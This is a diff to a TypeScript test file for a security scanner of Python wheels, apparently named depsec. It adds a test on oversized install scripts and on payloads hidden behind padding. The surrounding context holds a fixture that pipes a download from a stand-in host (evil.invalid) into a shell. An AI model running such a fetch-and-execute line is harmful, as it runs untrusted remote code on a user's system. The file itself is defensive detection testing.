@@ -43,6 +43,23 @@ test.each([
   expect(await judged(`x-1.0.data/data/${path}`, 'complete -W "a b" ls\n')).toEqual([]);
 });
 
+test('a program that is longer than depsec reads is unscanned; data of an extension of Jupyter is not', async () => {
+  const long = `#!/bin/sh\n${'# padding\n'.repeat(420_000)}`;
+  const read = async (path: string, text: string): Promise<string[]> => {
+    const { bytes, filename } = packWheel({ 'x.py': '', [path]: text }, { name: 'x', version: '1.0' });
+    const { unscanned } = await inspect(memorySource(bytes), filename, python);
+    return unscanned.map(({ code, file }) => `${code} ${file}`);
+  };
+  for (const path of ['x-1.0.data/scripts/x', 'x-1.0.data/data/share/bash-completion/completions/x'])
+    expect(await read(path, long)).toEqual([`script-too-large ${path}`]);
+  const kernel = (folder: string): string => `x-1.0.data/data/share/jupyter/${folder}/x/a.json`;
+  expect(await read(kernel('kernels'), long)).toHaveLength(1);
+  expect(await read(kernel('labextensions'), long)).toEqual([]);
+  expect(await judged('x-1.0.data/scripts/x', `#!/bin/sh\n${'# padding\n'.repeat(300_000)}${FETCH}`)).toEqual(
+    ['MEDIUM x-1.0.data/scripts/x:300002'],
+  );
+});
+
 test('a program of Python is judged once', async () => {
   const text = '#!python\nimport os\nos.system("curl -s https://evil.invalid/x.sh | sh")\n';
   expect(await judged('x-1.0.data/scripts/x.sh', text)).toHaveLength(1);
